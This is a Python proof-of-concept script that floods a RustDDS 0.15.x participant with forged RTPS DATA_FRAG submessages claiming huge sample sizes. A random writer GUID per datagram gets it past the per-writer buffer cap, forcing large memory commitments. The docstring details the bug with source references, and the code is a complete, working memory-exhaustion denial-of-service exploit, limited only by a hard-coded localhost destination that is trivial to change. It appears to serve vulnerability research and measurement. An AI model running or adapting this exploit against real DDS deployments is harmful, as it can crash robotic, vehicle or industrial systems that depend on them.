#!/usr/bin/env python3
"""Forged RTPS DATA_FRAG flood, for measuring a RustDDS 0.15.x participant's RSS growth.

Sends to 127.0.0.1 ONLY (the destination address is hard-coded).

What it targets (RustDDS 0.15.1, checked against its source):
  * Every datagram carries one (or --per-datagram K) DATA_FRAG submessage(s)
    (id 0x16, little-endian flag E=1, no inline QoS, no key) addressed to the
    SPDP builtin participant reader, readerId 0x000100c7, from writerId
    0x000100c2 (SPDP builtin participant writer). Every RustDDS participant has
    that reader. An explicit readerId is dispatched to the reader without any
    matched-writer check (message_receiver.rs handle_writer_submessage), and
    Reader::handle_datafrag_msg (reader.rs:585) feeds the FragmentAssembler
    before anything looks at matched_writers. So no discovery or matching is needed.
  * fragment_assembler.rs:48-49 does BytesMut::with_capacity(sampleSize) and then
    resize(sampleSize, 0), which writes zeros into the whole buffer, so each
    first fragment of a new (writer GUID, SN) commits sampleSize bytes of RSS.
  * By default each datagram has a fresh random guidPrefix (that is, a new writer
    GUID), which gets around the per-writer cap MAX_ASSEMBLY_BUFFERS=128
    (fragment_assembler.rs:186). With --same-writer, one prefix is used with
    SN 1..N instead, so at most 129 buffers are held.
  * No INFO_DST is sent (the receiver then takes dest = its own prefix); use
    --info-dst PREFIXHEX to add one. No INFO_TS is sent, so no lifespan check.
  * With the defaults (payload = fragmentSize = 16) each datagram is 72 bytes:
    20 header + 4 submessage header + 32 DATA_FRAG fields + 16 payload.

Ports: all of the participant's UDP listeners (SPDP multicast 7400+250D,
SPDP unicast 7410+250D+2P, user multicast 7401+250D, user unicast
7411+250D+2P) feed the same MessageReceiver, so any of them works.
Default: the user unicast port for --domain D, --participant-id P.

Usage:
  python3 /tmp/forge_datafrag.py [--domain 0] [--participant-id 0] [--port N]
      [-n 8] [--sample-size 268435456] [--frag-size 16] [--payload 16]
      [--per-datagram 1] [--same-writer] [--interval 0.05] [--pid PID]
With --pid, it prints the target's VmRSS/VmData before, then 1 s after, sending.
"""
import argparse
import os
import socket
import struct
import sys
import time

DEST_HOST = "127.0.0.1"  # never anything else

SPDP_WRITER = bytes([0x00, 0x01, 0x00, 0xC2])
SPDP_READER = bytes([0x00, 0x01, 0x00, 0xC7])
VENDOR_ID = bytes([0x01, 0x12])  # any value is accepted; vendor id is not checked
PROTO_VERSION = bytes([2, 4])


def rtps_header(guid_prefix: bytes) -> bytes:
    assert len(guid_prefix) == 12
    return b"RTPS" + PROTO_VERSION + VENDOR_ID + guid_prefix


def info_dst(prefix: bytes) -> bytes:
    # INFO_DST id 0x0e, flags E=1, octetsToNextHeader 12, guidPrefix
    return struct.pack("<BBH", 0x0E, 0x01, 12) + prefix


def data_frag(reader_id: bytes, writer_id: bytes, sn: int, frag_start: int,
              frags_in_sub: int, frag_size: int, sample_size: int, payload: bytes,
              pad: bool) -> bytes:
    body = struct.pack("<HH", 0, 28)             # extraFlags, octetsToInlineQos=28
    body += reader_id + writer_id                 # EntityIds: raw bytes
    body += struct.pack("<iI", sn >> 32, sn & 0xFFFFFFFF)  # writerSN (high, low)
    body += struct.pack("<IHHI", frag_start, frags_in_sub, frag_size, sample_size)
    body += payload
    if pad:  # keeps the next submessage 4-aligned; RustDDS counts it as payload
        body += b"\x00" * ((-len(body)) % 4)
    # submessageId 0x16, flags: E (little endian) only, octetsToNextHeader
    return struct.pack("<BBH", 0x16, 0x01, len(body)) + body


def proc_mem(pid):
    out = {}
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith(("VmRSS", "VmData", "VmHWM")):
                    k, v = line.split(":", 1)
                    out[k] = v.strip()
    except OSError as e:
        out["error"] = str(e)
    return out


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--domain", type=int, default=0)
    ap.add_argument("--participant-id", type=int, default=0)
    ap.add_argument("--port", type=int, default=None,
                    help="default 7400 + 250*domain + 11 + 2*participant_id")
    ap.add_argument("-n", "--count", type=int, default=8, help="datagrams to send")
    ap.add_argument("--sample-size", type=int, default=256 << 20,
                    help="claimed sampleSize in bytes (u32)")
    ap.add_argument("--frag-size", type=int, default=16, help="fragmentSize (1..65535)")
    ap.add_argument("--payload", type=int, default=None,
                    help="payload bytes per fragment (default = frag-size)")
    ap.add_argument("--per-datagram", type=int, default=1,
                    help="DATA_FRAG submessages per datagram (distinct SNs)")
    ap.add_argument("--same-writer", action="store_true",
                    help="one guidPrefix for all, distinct SNs (per-writer cap 128 applies)")
    ap.add_argument("--reader-id", default="000100c7", help="hex EntityId (00000000 = UNKNOWN)")
    ap.add_argument("--writer-id", default="000100c2", help="hex EntityId")
    ap.add_argument("--info-dst", default=None, help="hex 12-byte guidPrefix for INFO_DST")
    ap.add_argument("--interval", type=float, default=0.05, help="seconds between datagrams")
    ap.add_argument("--pid", type=int, default=None, help="target pid, to print RSS")
    a = ap.parse_args()

    port = a.port if a.port is not None else 7400 + 250 * a.domain + 11 + 2 * a.participant_id
    payload_len = a.frag_size if a.payload is None else a.payload
    if not (1 <= a.frag_size <= 0xFFFF and a.frag_size <= a.sample_size < 2**32):
        sys.exit("need 1 <= frag-size <= 65535, frag-size <= sample-size < 2^32 (RustDDS rejects otherwise)")
    if not (0 <= payload_len <= a.frag_size):
        sys.exit("payload must be <= frag-size (RustDDS rejects larger)")
    reader_id, writer_id = bytes.fromhex(a.reader_id), bytes.fromhex(a.writer_id)
    assert len(reader_id) == 4 and len(writer_id) == 4
    dst = bytes.fromhex(a.info_dst) if a.info_dst else None
    assert dst is None or len(dst) == 12

    if a.per_datagram > 1 and payload_len + (-payload_len) % 4 > a.frag_size:
        sys.exit("with --per-datagram > 1, payload padded to 4 must be <= frag-size")
    payload = bytes(range(256)) * (payload_len // 256 + 1)
    payload = payload[:payload_len]
    fixed_prefix = os.urandom(12)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if a.pid:
        print("before:", proc_mem(a.pid))
    sn = 0
    for i in range(a.count):
        prefix = fixed_prefix if a.same_writer else os.urandom(12)
        msg = rtps_header(prefix) + (info_dst(dst) if dst else b"")
        for k in range(a.per_datagram):
            sn = sn + 1 if a.same_writer else (sn % a.per_datagram) + 1
            msg += data_frag(reader_id, writer_id, sn, 1, 1, a.frag_size, a.sample_size, payload,
                             pad=k + 1 < a.per_datagram)
        sock.sendto(msg, (DEST_HOST, port))
        if a.interval > 0:
            time.sleep(a.interval)
    print(f"sent {a.count} datagrams of {len(msg)} bytes to {DEST_HOST}:{port}, "
          f"{a.per_datagram} DATA_FRAG each, sampleSize={a.sample_size}, "
          f"claimed total {a.count * a.per_datagram * a.sample_size / 2**20:.0f} MiB")
    if a.pid:
        time.sleep(1.0)
        print("after: ", proc_mem(a.pid))


if __name__ == "__main__":
    main()
